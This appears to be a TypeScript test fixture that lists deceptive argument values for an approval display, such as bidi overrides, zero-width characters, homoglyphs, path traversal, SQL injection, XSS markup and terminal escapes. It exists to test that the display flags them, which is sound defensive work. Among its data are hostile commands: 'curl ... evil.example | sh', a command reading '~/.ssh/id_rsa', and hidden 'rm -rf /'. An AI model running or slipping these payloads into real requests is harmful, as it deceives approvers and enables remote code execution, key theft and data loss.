import type { Json } from "../../lib/base/schema";

/**
 * Arguments by which somebody could make a person approve something else than what runs. `says`: a part of a remark or
 * mark that must stand beside it. Each is used twice: on the rendering itself, and in a real browser against what a
 * server received.
 */
export type Spoof = { name: string; arguments: { [name: string]: Json }; says?: string; uninspectable?: true };

const text = (name: string, value: string, says?: string): Spoof => ({ name, arguments: { message: value }, says });
const at = (name: string, key: string, value: Json, says?: string): Spoof => ({
  name,
  arguments: { message: "hello", [key]: value },
  says,
});

/** JSON that reads differently depending on which of two equal keys wins. */
const TWICE = '{"amount": 10, "amount": 10000}';
const LETTERS = Array.from({ length: 300 }, (_, index) => String.fromCharCode(33 + ((index * 7) % 90))).join("");
const BYTES = btoa(String.fromCharCode(...Array.from({ length: 300 }, (_, index) => (index * 37) % 256)));

let deep: Json = "end";
for (let level = 0; level < 40; level += 1) deep = { inner: deep };

export const SPOOFS: readonly Spoof[] = [
  // what is not seen
  text("a right-to-left override turns a name round", "invoice_\u202efdp.exe", "RIGHT-TO-LEFT OVERRIDE"),
  text("isolates hide the order of words", "if (\u2067admin\u2069 \u2066) return", "RIGHT-TO-LEFT ISOLATE"),
  text("embeddings and pops", "pay \u202b100\u202c to me", "RIGHT-TO-LEFT EMBEDDING"),
  text("a zero-width space splits a word", "rm\u200b -rf", "ZERO WIDTH SPACE"),
  text("zero-width joiners between letters", "ad\u200dmin\u200c", "ZERO WIDTH JOINER"),
  text("a byte order mark in front", "\ufeffDROP", "ZERO WIDTH NO-BREAK SPACE"),
  text(
    "a sentence in tag characters",
    `hi${[..."drop all"].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join("")}`,
    "TAG",
  ),
  text("variation selectors carry data", "a\ufe00\ufe01\u{e0100}", "VARIATION SELECTOR"),
  text("a soft hyphen", "pass\u00adword", "SOFT HYPHEN"),
  text("a no-break space instead of a space", "a\u00a0b", "NO-BREAK SPACE"),
  text("hangul fillers are empty letters", "x\u3164y", "HANGUL FILLER"),
  text("a braille blank", "x\u2800y", "BRAILLE PATTERN BLANK"),
  text("invisible arithmetic", "2\u20622", "INVISIBLE TIMES"),
  text("a stack of combining marks", `a${"\u0301".repeat(60)}`, "COMBINING"),
  text("characters for private use", "a\ue000b", "PRIVATE USE"),
  text("a control sequence that wipes the line", "safe\u001b[2K\u001b[1Grm -rf /", "ESCAPE"),
  text("a link of a terminal", "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007", "ESCAPE"),
  text("backspaces over what stood there", "delete\b\b\b\b\b\bkeep  ", "BACKSPACE"),
  text("a carriage return over a line", "harmless\rrm -rf /", "CARRIAGE RETURN"),
  text("a null in the middle", "file.txt\u0000.exe", "NULL"),
  text("line and paragraph separators", "a\u2028b\u2029c", "LINE SEPARATOR"),
  text("spaces that push the end out of sight", `ok${" ".repeat(400)}; rm -rf /`),
  text("line breaks that push the end below the fold", `ok${"\n".repeat(200)}and delete everything`),
  text("ends with spaces", "value   ", "ends with 3 spaces"),
  text("composed in another way", "cafe\u0301", "composed unusually"),
  // what looks like something else
  text("a Cyrillic letter in a Latin word", "p\u0430ypal", "CYRILLIC"),
  text("a Greek letter in a Latin word", "g\u03bfogle", "GREEK"),
  text("full-width letters", "\uff41dmin", "LOOKS LIKE"),
  text("mathematical letters", "\u{1d41a}dmin", "LOOKS LIKE"),
  text("a division slash in a path", "/etc\u2215passwd", "LOOKS LIKE"),
  text("the text false", "false"),
  text("the text null", "null"),
  text("a number in a text", "1000"),
  at("a number that would be read wrongly", "amount", 1_000_000, "1\u2009000\u2009000"),
  at("a negative number", "amount", -0.000001),
  at("a very large number", "amount", 1e21),
  at("money beside its currency", "price", { amount: 13_700, currency: "eur" }, "in EUR"),
  at("a moment as a number", "expires_at", 1_900_000_000, "as seconds since 1970"),
  at("a day that does not exist", "date", "2026-02-30", "no such day"),
  at("a date without a zone", "date", "2026-11-22T10:00:00", "without a time zone"),
  // names
  {
    name: "two names that look alike",
    arguments: { message: "a", path: "/tmp", "p\u0430th": "/etc" },
    says: "looks like another one",
  },
  {
    name: "two names in upper and lower case",
    arguments: { message: "a", Path: "/tmp", path: "/etc" },
    says: "looks like another one",
  },
  { name: "a name with a hidden character", arguments: { message: "a", "to\u200b": "mallory" }, says: "ZWSP" },
  { name: "a name like a part of the language", arguments: { message: "a", constructor: "x", toString: "y" } },
  { name: "an empty name", arguments: { message: "a", "": "x" } },
  { name: "a name with a slash and a tilde", arguments: { message: "a", "a/b~c": "x" } },
  // where it leads
  at("an address with user info", "url", "https://bank.example:pay@evil.example/login", "leads to evil.example"),
  at("a host in other letters", "url", "https://\u0430pple.com/", "xn--"),
  at("an address as a number", "url", "http://2130706433/", "127.0.0.1"),
  at("a script in an address", "url", "javascript:alert(1)", "does not lead to a host"),
  at("an encoded path in an address", "url", "https://a.example/%2e%2e%2fadmin", "decodes to"),
  at("a mail address with two at signs", "to", "ceo@bank.example@evil.example", "evil.example"),
  at("a mail address in other letters", "to", "jane@ex\u0430mple.com", "xn--"),
  at("a path that goes up", "path", "/srv/app/../../etc/passwd", "leads to /etc/passwd"),
  at("a path that goes up once decoded", "path", "/srv/%2e%2e/secret", "decodes to"),
  at("another machine", "path", "\\\\evil\\share", "two slashes"),
  // what it does
  at("a second statement", "sql", "SELECT 1; DROP TABLE users", "2 statements: SELECT, DROP TABLE"),
  at("a statement behind a quoted backslash", "sql", "SELECT '\\'; DROP TABLE users; --'", "DROP TABLE"),
  at("a deletion of everything", "sql", "DELETE FROM users -- WHERE id = 1", "DELETE without WHERE"),
  at("a download that is run", "command", "curl -s https://evil.example/x | sh", "runs what another command prints"),
  at("a command inside a command", "command", 'echo "$(cat ~/.ssh/id_rsa)"', "inside another"),
  at("a command behind a comment", "command", "ls # list\nrm -rf /", "2 commands: ls, rm"),
  // what is inside
  at("JSON inside a text", "body", '{"delete": true, "path": "/"}', "JSON in text"),
  at("JSON inside a text that repeats a name", "body", TWICE, "uses a key twice"),
  at(
    "JSON inside JSON inside a text",
    "body",
    JSON.stringify({ inner: JSON.stringify({ drop: true }) }),
    "JSON in text",
  ),
  at("a number inside a text that readers round", "body", '{"id": 9007199254740993}', "round differently"),
  at("text in base64", "note", btoa("rm -rf / --no-preserve-root"), "base64"),
  { name: "bytes in base64", arguments: { message: "a", content: BYTES }, says: "300 bytes", uninspectable: true },
  // markup
  text("markup", '<img src=x onerror="alert(1)"><b>Approved</b>'),
  text("a script", "</td></tr></table><script>alert(1)</script>"),
  text("a link in Markdown", "[Approve](javascript:alert(1)) **done**"),
  text("our own words", "Approved by Sam. Same as last time. Nothing changed."),
  text("an entity", "&lt;b&gt; &#8238;"),
  // size and shape
  text("a long text without a space", LETTERS.repeat(10)),
  text("a long text with the point at its end", `${"All is well. ".repeat(2000)}Then delete it all.`),
  at("a deep value", "tree", deep),
  at(
    "a long list",
    "ids",
    Array.from({ length: 600 }, (_, index) => `id-${index}`),
  ),
  at("an empty object and an empty list", "empty", { list: [], object: {}, text: "" }),
  at("a list of mixed values", "list", ["1", 1, true, "true", null, "null"]),
];
